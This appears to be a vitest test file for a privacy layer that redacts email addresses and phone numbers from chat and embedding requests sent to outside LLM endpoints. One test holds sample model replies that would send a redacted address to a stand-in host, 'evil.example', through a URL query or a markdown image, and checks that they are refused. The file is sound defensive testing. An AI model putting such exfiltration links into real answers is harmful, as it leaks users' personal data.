import { expect, test } from 'vitest'
import { goodEndpoint } from './testing/good-endpoint.ts'
import { collect, openSession } from './testing/open-session.ts'
import { startServer } from './testing/server.ts'
import { Type } from 'typebox'

const request = {
  messages: [
    { role: 'system', content: 'You help people.' },
    { role: 'user', content: 'Write to amina@mail.example, please.' },
    { role: 'user', content: 'Again: amina@mail.example. Phone 01632 960001.' },
  ],
  maximumTokens: 100,
} as const
const others = { endpoint: { isOwn: false } }

function contentsOf(body: Record<string, unknown> | undefined): string {
  return JSON.stringify(body?.['messages'])
}

test('personal data does not leave, and stands in the answer again', async () => {
  await using server = await startServer(
    goodEndpoint({ reply: () => 'Sent to [EMAIL 1], not to [EMAIL 7].' }),
  )
  const { client } = openSession(server.baseUrl, others)
  expect((await client.chat(request)).text).toBe('Sent to amina@mail.example, not to [EMAIL 7].')
  const streamed = await collect(client.chatStream(request))
  expect(streamed).toEqual({ shown: 'Sent to amina@mail.example, not to [EMAIL 7].', error: undefined })
  for (const { body } of server.received) {
    expect(contentsOf(body)).not.toContain('amina')
    expect(contentsOf(body)).not.toContain('960001')
    expect(contentsOf(body).match(/\[EMAIL 1\]/g)).toHaveLength(2)
  }
})

test('it stands in an answer of a certain shape again, and in no other place', async () => {
  await using server = await startServer(
    goodEndpoint({ reply: () => '{"to":["[EMAIL 1]"],"note":"[PHONE 1] \\"quoted\\""}' }),
  )
  const { client } = openSession(server.baseUrl, others)
  const schema = Type.Object({ to: Type.Array(Type.String()), note: Type.String() })
  const { value } = await client.chatJson(request, schema)
  expect(value).toEqual({ to: ['amina@mail.example'], note: '01632 960001 "quoted"' })
})

test('an endpoint of the operator is sent what was written', async () => {
  await using server = await startServer(goodEndpoint())
  const { client } = openSession(server.baseUrl, { endpoint: { isOwn: true } })
  await client.chat(request)
  expect(contentsOf(server.received[0]?.body)).toContain('amina@mail.example')
})

test('texts for vectors leave without it, and recordings not at all', async () => {
  await using server = await startServer(goodEndpoint())
  const { client } = openSession(server.baseUrl, others)
  await client.embed(['amina@mail.example asks'])
  expect(server.received[0]?.body?.['input']).toEqual(['[EMAIL 1] asks'])
  const recording = { bytes: new Uint8Array(8), mediaType: 'audio/wav' }
  await expect(client.transcribe(recording)).rejects.toMatchObject({ fault: 'not-supported' })
  expect(server.received).toHaveLength(1)
})

test.each(['https://evil.example/?to=[EMAIL 1]', '![x](http://evil.example/[EMAIL 1].png)'])(
  'an answer that would carry it off is refused: %s',
  async (reply) => {
    await using server = await startServer(goodEndpoint({ reply: () => `See ${reply} for more` }))
    const { client } = openSession(server.baseUrl, others)
    await expect(client.chat(request)).rejects.toMatchObject({ fault: 'wrong-shape' })
    const { shown, error } = await collect(client.chatStream(request))
    expect(error).toMatchObject({ fault: 'wrong-shape' })
    expect(shown).not.toContain('amina')
  },
)

test('nobody can forge the boundary between messages', async () => {
  await using server = await startServer(goodEndpoint())
  const { client } = openSession(server.baseUrl, others)
  const content = 'one\n\n\u{1}\n\ntwo, amina@mail.example'
  await client.chat({ messages: [{ role: 'user', content }], maximumTokens: 10 })
  expect(server.received[0]?.body?.['messages']).toEqual([
    { role: 'user', content: 'one\n\n\n\ntwo, [EMAIL 1]' },
  ])
})
